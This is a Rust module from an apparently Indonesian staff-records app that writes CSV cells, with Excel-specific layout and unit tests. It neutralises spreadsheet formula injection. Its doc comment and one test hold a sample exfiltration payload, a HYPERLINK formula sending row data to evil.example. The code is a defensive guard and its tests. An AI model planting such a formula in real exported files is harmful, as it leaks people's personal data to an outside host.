//! Writing CSV files for spreadsheets: the one place that turns a text value into a cell.

/// The first characters that make Excel, LibreOffice and Google Sheets read a cell as a formula
/// (or, for tab and carriage return, hide such a formula behind whitespace).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A text value as one CSV cell (comma-separated, `"` quoting). A value a spreadsheet would run
/// as a formula (an official named `=HYPERLINK("http://evil.example/?"&B2,"Klik")` would send
/// that row away when the file is opened) is neutralised: it gets a leading `'`, which
/// spreadsheets read as "this is text", and is quoted. Numbers the app writes (amounts, which may
/// be negative) are written as numbers and never pass through here.
pub fn text_cell(value: &str) -> String {
    let formula = value.starts_with(FORMULA_STARTS);
    if formula || value.contains([',', '"', '\n', '\r', ';']) {
        let prefix = if formula { "'" } else { "" };
        format!("\"{prefix}{}\"", value.replace('"', "\"\""))
    } else {
        value.to_string()
    }
}

/// How a CSV download is laid out. `Program` is the documented format (`pakta export`, the
/// default download): `,` between cells, `.` in decimals. `ExcelId` is for a spreadsheet with
/// Indonesian regional settings, which reads `,` as the decimal comma and so opens a
/// comma-separated file as one column (issue 16): `;` between cells, `,` in decimals, CRLF line
/// ends, a byte-order mark so the names' accents read as UTF-8, and NIPs as text (an 18-digit
/// number would otherwise lose its last digits).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Dialect {
    Program,
    ExcelId,
}

impl Dialect {
    /// `?pemisah=titikkoma` asks for the Excel layout.
    pub fn from_query(value: Option<&str>) -> Self {
        match value {
            Some("titikkoma") => Dialect::ExcelId,
            _ => Dialect::Program,
        }
    }

    pub fn start(self) -> String {
        match self {
            Dialect::Program => String::new(),
            Dialect::ExcelId => "\u{feff}".to_string(),
        }
    }

    /// One line of cells, each already written by [`Dialect::text`] or [`Dialect::number`].
    pub fn line(self, cells: &[String]) -> String {
        match self {
            Dialect::Program => format!("{}\n", cells.join(",")),
            Dialect::ExcelId => format!("{}\r\n", cells.join(";")),
        }
    }

    pub fn text(self, value: &str) -> String {
        text_cell(value)
    }

    /// A NIP (digits only) kept as text: the cell `="1980…"` (quoted as RFC 4180 asks), which
    /// spreadsheets show as the digits, not as a number cut to 15 significant digits; anything
    /// else as [`text_cell`] writes it.
    pub fn nip(self, value: &str) -> String {
        let digits = !value.is_empty() && value.chars().all(|c| c.is_ascii_digit());
        match self {
            Dialect::ExcelId if digits => format!("\"=\"\"{value}\"\"\""),
            _ => text_cell(value),
        }
    }

    /// A number the app wrote (`1234`, `-12.5`): the decimal point becomes a comma for Excel.
    pub fn number(self, value: impl std::fmt::Display) -> String {
        let text = value.to_string();
        match self {
            Dialect::Program => text,
            Dialect::ExcelId => text.replace('.', ","),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::{text_cell, Dialect};

    #[test]
    fn the_excel_layout_uses_semicolons_decimal_commas_and_text_nips() {
        let d = Dialect::ExcelId;
        assert_eq!(d.start(), "\u{feff}");
        assert_eq!(
            d.line(&[d.text("Siti; S.E."), d.nip("198001012005011001"), d.number("97.5"), d.number(-1200)]),
            "\"Siti; S.E.\";\"=\"\"198001012005011001\"\"\";97,5;-1200\r\n"
        );
        // Only digits become a text formula: a crafted "NIP" is neutralised like any text.
        assert_eq!(d.nip("=1+1"), "\"'=1+1\"");
        let p = Dialect::Program;
        assert_eq!(p.start(), "");
        assert_eq!(
            p.line(&[p.text("Budi"), p.nip("198001012005011001"), p.number("97.5")]),
            "Budi,198001012005011001,97.5\n"
        );
        assert_eq!(Dialect::from_query(Some("titikkoma")), Dialect::ExcelId);
        assert_eq!(Dialect::from_query(Some("koma")), Dialect::Program);
        assert_eq!(Dialect::from_query(None), Dialect::Program);
    }

    #[test]
    fn plain_text_is_written_as_it_is() {
        assert_eq!(text_cell("Siti Rahayu, S.E."), "\"Siti Rahayu, S.E.\"");
        assert_eq!(text_cell("Budi"), "Budi");
        assert_eq!(text_cell("198001012005011001"), "198001012005011001");
        assert_eq!(text_cell(""), "");
        assert_eq!(text_cell("Kepala \"Dinas\""), "\"Kepala \"\"Dinas\"\"\"");
        // A formula character inside a value is harmless: only the first character counts.
        assert_eq!(text_cell("Budi=Santoso"), "Budi=Santoso");
        assert_eq!(text_cell("a\rb"), "\"a\rb\"");
    }

    #[test]
    fn formula_starts_are_neutralised() {
        let evil = "=HYPERLINK(\"http://evil.example/?leak=\"&B2&G2,\"Klik\")";
        assert_eq!(text_cell(evil), "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2&G2,\"\"Klik\"\")\"");
        assert_eq!(text_cell("+62 812"), "\"'+62 812\"");
        assert_eq!(text_cell("-2+3"), "\"'-2+3\"");
        assert_eq!(text_cell("@SUM(A1)"), "\"'@SUM(A1)\"");
        assert_eq!(text_cell("\t=1+1"), "\"'\t=1+1\"");
        assert_eq!(text_cell("\r=1+1"), "\"'\r=1+1\"");
        for c in ['=', '+', '-', '@', '\t', '\r'] {
            let cell = text_cell(&format!("{c}x"));
            assert!(cell.starts_with("\"'"), "{c:?}: {cell:?}");
        }
    }
}
